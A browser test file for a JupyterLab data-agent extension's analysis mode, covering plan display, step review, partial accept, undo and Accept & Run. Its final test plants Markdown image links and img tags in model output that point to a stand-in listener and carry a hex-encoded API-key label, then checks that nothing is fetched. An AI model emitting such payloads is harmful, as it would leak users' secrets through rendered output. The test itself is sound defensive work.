/**
 * Analysis mode (issue 26) in the browser: the live plan in the sidebar, the
 * whole analysis placed as one pending change (a Markdown cell and a code
 * cell with the copy's outputs per step), accepted up to step 3 and reverted
 * by one undo; Accept & Run executing the steps in order in the real kernel
 * and stopping at the first error. The turn's events are played by the
 * mocked server (the strategy itself is tested in pytest); the notebook and
 * its kernel are real.
 */
import { expect, test } from '@jupyterlab/galata';
import type { Page } from '@playwright/test';

import {
  CATALOG,
  CONFIG,
  DF_CODE,
  MockServer,
  ask,
  event,
  execute,
  finishEvents,
  notebookCells,
  notebookWithDf,
  openPanel,
  panel,
  kernelRepr,
  reloadAndReopen,
  screenshotPath
} from './helpers';

const ANALYSIS_CONFIG = {
  ...CONFIG,
  strategies: [
    ...CATALOG,
    {
      name: 'analysis',
      label: 'Analysis',
      summary:
        'A whole analysis: a plan, then one verified cell per step, reviewed as one change.',
      samples: 1,
      budget: 8
    }
  ],
  capabilities: {
    ...CONFIG.capabilities,
    strategies: [...CONFIG.capabilities.strategies, 'analysis']
  }
} as typeof CONFIG;

function result(text: string, status = 'ok', ename: string | null = null) {
  return {
    status,
    outputs: text
      ? [
          {
            output_type: 'execute_result',
            name: null,
            text: null,
            data: { 'text/plain': text },
            metadata: {},
            ename: null,
            evalue: null,
            traceback: null
          }
        ]
      : [],
    value: null,
    ename,
    evalue: ename ? 'division by zero' : null,
    traceback: [],
    duration_s: 0.05,
    pid: 4242,
    limit: null,
    truncated: false,
    namespace: null
  };
}

interface IStepSpec {
  title: string;
  code: string;
  out: string;
  status?: string;
}

function analysisCandidate(steps: IStepSpec[]) {
  const analysis = steps.map((s, i) => ({
    number: i + 1,
    title: s.title,
    explanation: `Why: ${s.title.toLowerCase()}.`,
    code: s.code,
    cell_id: null,
    result: result(
      s.out,
      s.status ?? 'ok',
      s.status === 'error' ? 'ZeroDivisionError' : null
    ),
    status: s.status ?? 'ok',
    repairs: 0,
    replanned: false
  }));
  return {
    code: steps.map(s => s.code).join('\n\n'),
    steps: [],
    result: null,
    score: null,
    support: 1,
    repaired: false,
    meta: {},
    trace: [],
    explanation: '',
    analysis
  };
}

const plan = (titles: string[], statuses: string[]) =>
  titles.map((title, i) => ({ number: i + 1, title, status: statuses[i] }));

/** Ask for an analysis; the decisions the page posts are collected. */
async function askForAnalysis(
  page: Page,
  server: MockServer,
  intent: string
): Promise<any[]> {
  const decisions: any[] = [];
  await page.route(/\/jupyter-data-agent\/decisions(\?.*)?$/, async route => {
    decisions.push(route.request().postDataJSON());
    await route.fulfill({
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify({ version: 1, stored: true })
    });
  });
  await openPanel(page);
  await panel(page)
    .locator('.jp-DataAgent-strategy select')
    .selectOption('analysis');
  await ask(page, intent);
  await expect.poll(() => server.bodies.length).toBe(1);
  expect(server.bodies[0]).toMatchObject({ strategy: 'analysis' });
  return decisions;
}

/** A value in the live kernel, as its repr (user_expressions). */
const TITLES = ['Total delay', 'Mean delay', 'Twice the mean', 'Per airline'];
const FOUR: IStepSpec[] = [
  { title: TITLES[0], code: 'total = df["delay"].sum()\ntotal', out: '85' },
  { title: TITLES[1], code: 'avg = total / len(df)\navg', out: '17.0' },
  { title: TITLES[2], code: 'doubled = avg * 2\ndoubled', out: '34.0' },
  {
    title: TITLES[3],
    code: 'per = df.groupby("airline")["delay"].mean()\nper',
    out: 'AA 20.0'
  }
];

test('a 4-step analysis: live plan, review, accept up to step 3, one undo', async ({
  page
}) => {
  const server = new MockServer();
  await server.install(page, ANALYSIS_CONFIG);
  await notebookWithDf(page, 'analysis-review.ipynb');
  const before = await notebookCells(page);
  const decisions = await askForAnalysis(page, server, 'Analyse the delays');

  // The plan, live: each event sends the whole plan.
  await server.send('job1', [
    event('job1', 1, 'progress', 'Planning', { state: 'planning' }),
    event('job1', 2, 'progress', 'step 1 of 4: running in a kernel copy', {
      state: 'step',
      turn: 1,
      plan: plan(TITLES, ['running', 'pending', 'pending', 'pending'])
    })
  ]);
  const steps = panel(page).locator('.jp-DataAgent-planStep');
  await expect(steps).toHaveCount(4);
  await expect(
    panel(page).locator('.jp-DataAgent-analysisPlan ol')
  ).toHaveAttribute('aria-live', 'polite');
  await expect(steps.nth(0)).toHaveAttribute('data-status', 'running');
  await server.send('job1', [
    event('job1', 3, 'progress', 'step 3 of 4: repairing', {
      state: 'step',
      turn: 3,
      plan: plan(TITLES, ['ok', 'ok', 'repairing', 'pending'])
    })
  ]);
  await expect(steps.nth(2)).toHaveAttribute('data-status', 'repairing');
  await expect(
    panel(page).locator('.jp-DataAgent-analysisPlanHead')
  ).toHaveText('Plan: 2 of 4 steps done');
  await page.screenshot({ path: screenshotPath('analysis-plan.png') });

  await server.send('job1', [
    event('job1', 4, 'progress', 'step 4 of 4: done', {
      state: 'step',
      turn: 4,
      plan: plan(TITLES, ['ok', 'ok', 'ok', 'ok'])
    }),
    ...finishEvents('job1', 5, [analysisCandidate(FOUR) as any], {
      turnId: 'turn-analysis',
      result: { strategy: 'analysis' as any, answer: 'The mean delay is 17.' }
    })
  ]);

  // One pending change below the df cell: per step a Markdown cell and
  // its code cell with the copy's output.
  const pending = page.locator('.jp-Notebook .jp-Cell.jp-DataAgent-suggestion');
  await expect(pending).toHaveCount(8);
  const bar = page.locator('.jp-DataAgent-analysisBar');
  await expect(bar).toHaveCount(1);
  await expect(bar.locator('.jp-DataAgent-suggestionCount')).toHaveText(
    '4 steps'
  );
  let cells = await notebookCells(page);
  expect(cells).toHaveLength(9);
  expect(cells[1].cell_type).toBe('markdown');
  expect(cells[1].source).toContain('**Step 1.** Total delay');
  expect(cells[2].source).toBe(FOUR[0].code);
  expect(cells[2].metadata.jupyter_data_agent).toMatchObject({
    turn_id: 'turn-analysis',
    status: 'pending',
    step: 1
  });
  expect(cells[2].outputs[0].data['text/plain']).toBe('85');
  // Not run in the live kernel: no execution count, and nothing defined.
  expect(cells[2].execution_count).toBeNull();
  expect(await kernelRepr(page, 'total')).toBe('NameError');
  await page.screenshot({ path: screenshotPath('analysis-review.png') });

  // Accept up to step 3: step 4 goes, the rest is kept (not run).
  await bar.locator('.jp-DataAgent-analysisStepSelect').selectOption('3');
  await bar.locator('.jp-DataAgent-acceptUpTo').click();
  await expect(pending).toHaveCount(0);
  cells = await notebookCells(page);
  expect(cells).toHaveLength(7);
  expect(cells.slice(1).map(c => c.metadata.jupyter_data_agent.step)).toEqual([
    1, 1, 2, 2, 3, 3
  ]);
  expect(
    cells
      .slice(1)
      .every(c => c.metadata.jupyter_data_agent.status === 'accepted')
  ).toBe(true);
  expect(await kernelRepr(page, 'total')).toBe('NameError');
  // One decision per step: 1-3 kept, 4 dropped.
  await expect
    .poll(() => decisions.map(d => [d.step, d.decision]).sort())
    .toEqual([
      [1, 'accepted'],
      [2, 'accepted'],
      [3, 'accepted'],
      [4, 'rejected']
    ]);

  // One undo reverts the whole change.
  await execute(page, 'jupyter-data-agent:undo');
  await expect.poll(async () => (await notebookCells(page)).length).toBe(1);
  const after = await notebookCells(page);
  expect(after.map(c => [c.id, c.source])).toEqual(
    before.map(c => [c.id, c.source])
  );
});

test('Accept & Run runs the steps in order in the live kernel and stops at the first error', async ({
  page
}) => {
  const server = new MockServer();
  await server.install(page, ANALYSIS_CONFIG);
  await notebookWithDf(page, 'analysis-run.ipynb');
  const decisions = await askForAnalysis(page, server, 'Analyse, then fail');
  const FIVE: IStepSpec[] = [
    ...FOUR.slice(0, 3),
    {
      title: 'Divide by nothing',
      code: 'broken = 1 / 0',
      out: '',
      status: 'error'
    },
    { title: 'After the error', code: 'after = 1\nafter', out: '1' }
  ];
  await server.send(
    'job1',
    finishEvents('job1', 1, [analysisCandidate(FIVE) as any], {
      turnId: 'turn-run',
      result: { strategy: 'analysis' as any }
    })
  );
  const pending = page.locator('.jp-Notebook .jp-Cell.jp-DataAgent-suggestion');
  await expect(pending).toHaveCount(10);
  // The failed step says so in its Markdown cell.
  const cells = await notebookCells(page);
  expect(cells[7].source).toContain(
    'raised ZeroDivisionError in its kernel copy'
  );

  await page
    .locator('.jp-DataAgent-analysisBar .jp-DataAgent-acceptAndRun')
    .click();
  await expect(pending).toHaveCount(0);
  const code = async () =>
    (await notebookCells(page)).filter(
      c => c.cell_type === 'code' && c.metadata.jupyter_data_agent
    );
  // Steps 1-4 ran (4 failed), in order; step 5 did not.
  await expect
    .poll(async () => (await code()).map(c => c.execution_count !== null))
    .toEqual([true, true, true, true, false]);
  const ran = await code();
  const counts = ran.slice(0, 4).map(c => c.execution_count as number);
  expect([...counts].sort((a, b) => a - b)).toEqual(counts);
  expect(new Set(counts).size).toBe(4);
  expect(ran[3].outputs.some((o: any) => o.ename === 'ZeroDivisionError')).toBe(
    true
  );
  // The live kernel holds what steps 1-3 made (3 used step 2's `avg`).
  expect(await kernelRepr(page, 'float(doubled)')).toBe('34.0');
  expect(await kernelRepr(page, 'after')).toBe('NameError');
  await page.screenshot({ path: screenshotPath('analysis-run.png') });
  await expect
    .poll(() => decisions.map(d => d.decision))
    .toEqual(Array(5).fill('accepted_run'));
});

test('Stop finishes an analysis after its step; the prefix, with an edit of a cell shown as a diff, is reviewed', async ({
  page
}) => {
  const server = new MockServer();
  await server.install(page, ANALYSIS_CONFIG);
  const finished: string[] = [];
  await page.route(
    /\/jupyter-data-agent\/jobs\/[^/]+\/finish(\?.*)?$/,
    async route => {
      finished.push(route.request().url());
      await route.fulfill({
        status: 202,
        contentType: 'application/json',
        body: JSON.stringify({ version: 1, job_id: 'job1', status: 'running' })
      });
    }
  );
  await notebookWithDf(page, 'analysis-stop.ipynb');
  await askForAnalysis(page, server, 'Analyse and stop');
  await server.send('job1', [
    event('job1', 1, 'progress', 'step 2 of 4: running in a kernel copy', {
      state: 'step',
      turn: 2,
      plan: plan(TITLES, ['ok', 'running', 'pending', 'pending'])
    })
  ]);
  await panel(page).locator('.jp-DataAgent-stop').click();
  await expect.poll(() => finished.length).toBe(1);
  expect(server.cancelled).toEqual([]);
  // The verified prefix: step 1 a new cell, step 2 an edit of the df cell.
  const prefix = analysisCandidate(FOUR.slice(0, 2)) as any;
  prefix.analysis[1].cell_id = (await notebookCells(page))[0].id;
  prefix.analysis[1].code = DF_CODE.replace(
    '[10, 25, 30, 5, 15]',
    '[1, 2, 3, 4, 5]'
  );
  await server.send(
    'job1',
    finishEvents('job1', 2, [prefix as any], {
      turnId: 'turn-stop',
      result: { strategy: 'analysis' as any }
    })
  );
  const bar = page.locator('.jp-DataAgent-analysisBar');
  await expect(bar.locator('.jp-DataAgent-suggestionCount')).toHaveText(
    '2 steps'
  );
  // The plan says where the stop left it.
  await expect(
    panel(page).locator('.jp-DataAgent-planStep').nth(1)
  ).toHaveAttribute('data-status', 'skipped');
  // The df cell shows the step's change as a diff; its source is unchanged.
  await expect(
    page.locator('.jp-Cell.jp-DataAgent-replacing .jp-DataAgent-cellDiff')
  ).toHaveCount(1);
  let cells = await notebookCells(page);
  expect(cells[0].source).toBe(DF_CODE);
  expect(cells[0].metadata.jupyter_data_agent).toMatchObject({
    status: 'pending',
    step: 2
  });
  // The edit step's own output is in its Markdown; the df cell keeps its
  // own output until Accept (m4).
  const markdownOf = (all: any[], step: number) =>
    all.find(
      c =>
        c.cell_type === 'markdown' &&
        c.metadata.jupyter_data_agent?.step === step
    )?.source as string;
  expect(markdownOf(cells, 2)).toContain(
    'Its output in a kernel copy:\n\n```text\n17.0\n```'
  );
  const own = cells[0].outputs;
  expect(own.length).toBeGreaterThan(0);
  await page.screenshot({ path: screenshotPath('analysis-edit-diff.png') });
  // The review survives a reload: its bar, its steps, the diff.
  await page.notebook.save();
  await reloadAndReopen(page, 'analysis-stop.ipynb');
  await expect(bar.locator('.jp-DataAgent-suggestionCount')).toHaveText(
    '2 steps'
  );
  await expect(
    page.locator('.jp-Cell.jp-DataAgent-replacing .jp-DataAgent-cellDiff')
  ).toHaveCount(1);
  expect((await notebookCells(page))[0].source).toBe(DF_CODE);
  await bar.locator('.jp-DataAgent-accept').click();
  await expect(page.locator('.jp-DataAgent-cellDiff')).toHaveCount(0);
  cells = await notebookCells(page);
  expect(cells[0].source).toBe(prefix.analysis[1].code);
  // Accepted: the old code's output is not left under the new code (the
  // step's own is not known after a reload: cleared; without a reload the
  // cell takes it, analysis.spec in jest), and no pending note is left in
  // the Markdown (m4).
  expect(cells[0].outputs).toEqual([]);
  expect(markdownOf(cells, 2)).not.toContain('edits an existing cell');
  expect(markdownOf(cells, 2)).not.toContain('Its output');
  // One undo: the df cell as it was (its output too), the new cells gone.
  await execute(page, 'jupyter-data-agent:undo');
  await expect.poll(async () => (await notebookCells(page)).length).toBe(1);
  cells = await notebookCells(page);
  expect(cells[0].source).toBe(DF_CODE);
  expect(cells[0].metadata.jupyter_data_agent).toBeUndefined();
  expect(cells[0].outputs).toEqual(own);
});

test('a real analysis: the server plans and runs two steps in copies (scripted model); an edit re-runs step 2; Accept & Run', async ({
  page
}) => {
  // No mocked routes: the extension's server, its kernel copies and the
  // OpenAI-protocol test server (fixtures/replies.json) answer.
  await notebookWithDf(page, 'analysis-real.ipynb');
  await openPanel(page);
  await panel(page)
    .locator('.jp-DataAgent-strategy select')
    .selectOption('analysis');
  await ask(page, 'Analyse the delays in two verified steps');
  const bar = page.locator('.jp-DataAgent-analysisBar');
  await expect(bar).toHaveCount(1, { timeout: 90_000 });
  await expect(bar.locator('.jp-DataAgent-suggestionCount')).toHaveText(
    '2 steps'
  );
  await expect(
    panel(page).locator('.jp-DataAgent-planStep[data-status="ok"]')
  ).toHaveCount(2);
  let cells = await notebookCells(page);
  expect(cells).toHaveLength(5);
  expect(cells[1].source).toContain(
    '**Step 1.** Sum the delays of every flight'
  );
  expect(cells[2].source).toBe('total_delay = df["delay"].sum()\ntotal_delay');
  // Step 2 ran in a copy forked from step 1's: it saw `total_delay`.
  expect(cells[4].outputs[0].data['text/plain']).toContain('17.0');
  // The live kernel has neither.
  expect(await kernelRepr(page, 'total_delay')).toBe('NameError');

  // Edit step 1 in review; step 2 re-runs in copies from the edited one.
  const rerun = bar.locator('.jp-DataAgent-rerun');
  await expect(rerun).toBeDisabled();
  await page.evaluate(() => {
    const widget = (window as any).jupyterapp.shell.currentWidget;
    widget.content.model.sharedModel.cells[2].setSource(
      'total_delay = df["delay"].sum() * 2\ntotal_delay'
    );
  });
  await expect(rerun).toHaveText('Re-run from step 1');
  await rerun.click();
  await expect
    .poll(
      async () => (await notebookCells(page))[4]?.outputs[0]?.data['text/plain']
    )
    .toContain('34.0');
  cells = await notebookCells(page);
  expect(cells).toHaveLength(5);
  expect(cells[2].source).toBe(
    'total_delay = df["delay"].sum() * 2\ntotal_delay'
  );
  expect(cells[2].outputs[0].data['text/plain']).toContain('170');
  expect(await kernelRepr(page, 'total_delay')).toBe('NameError');
  await expect(rerun).toBeDisabled();

  await bar.locator('.jp-DataAgent-acceptAndRun').click();
  await expect
    .poll(async () => (await notebookCells(page))[4].execution_count)
    .not.toBeNull();
  cells = await notebookCells(page);
  expect(cells[2].execution_count).toBeLessThan(cells[4].execution_count);
  expect(await kernelRepr(page, 'float(mean_delay)')).toBe('34.0');
});

test('model Markdown in an analysis loads nothing: on arrival, after Accept, on reopen (issue 34)', async ({
  page
}) => {
  // A listener's address, as an exfiltrating explanation would name it: any
  // request to it from the page (a fetched image) is the finding.
  const LISTENER = '127.0.0.1:8799';
  const HEX = '6f70656e61692d6b6579';
  const urls: string[] = [];
  page.on('request', request => urls.push(request.url()));
  const leaked = () => urls.filter(u => u.includes(LISTENER));
  const server = new MockServer();
  await server.install(page, ANALYSIS_CONFIG);
  await notebookWithDf(page, 'analysis-inert.ipynb');
  await askForAnalysis(page, server, 'Read the key and explain');
  const titles = [
    `Read it ![t](http://${LISTENER}/plan?d=${HEX})`,
    `Explain <img src="http://${LISTENER}/raw?d=${HEX}">`
  ];
  await server.send('job1', [
    event('job1', 1, 'progress', 'step 1 of 2: running in a kernel copy', {
      state: 'step',
      turn: 1,
      plan: plan(titles, ['running', 'pending'])
    })
  ]);
  const candidate = analysisCandidate([
    { title: titles[0], code: 'k = 1\nk', out: '1' },
    { title: titles[1], code: 'k + 1', out: '2' }
  ]) as any;
  candidate.analysis[1].explanation =
    `![e](http://${LISTENER}/explanation?d=${HEX}) ` +
    `<img src=http://${LISTENER}/explanation-raw?d=${HEX}> ` +
    `[docs](http://${LISTENER}/link?d=${HEX})`;
  await server.send(
    'job1',
    finishEvents('job1', 2, [candidate], {
      turnId: 'turn-inert',
      result: { strategy: 'analysis' as any }
    })
  );
  const pending = page.locator('.jp-Notebook .jp-Cell.jp-DataAgent-suggestion');
  await expect(pending).toHaveCount(4);
  let cells = await notebookCells(page);
  // The words are there, as text.
  expect(cells[3].source).toContain('docs');
  expect(cells[3].source).toContain(LISTENER);
  // Tools without this extension (nbconvert, papermill) skip the pending code.
  expect(cells[2].metadata.tags).toEqual(['skip-execution']);
  await page.waitForTimeout(1500); // an image load would have started by now
  expect(leaked()).toEqual([]);

  await page.locator('.jp-DataAgent-analysisBar .jp-DataAgent-accept').click();
  await expect(pending).toHaveCount(0);
  cells = await notebookCells(page);
  expect(cells[2].metadata.tags).toBeUndefined();
  await page.waitForTimeout(1000);
  expect(leaked()).toEqual([]);

  await page.notebook.save();
  await reloadAndReopen(page, 'analysis-inert.ipynb');
  await expect(page.locator('.jp-Notebook .jp-MarkdownCell')).toHaveCount(2);
  await page.waitForTimeout(1500);
  expect(leaked()).toEqual([]);
});
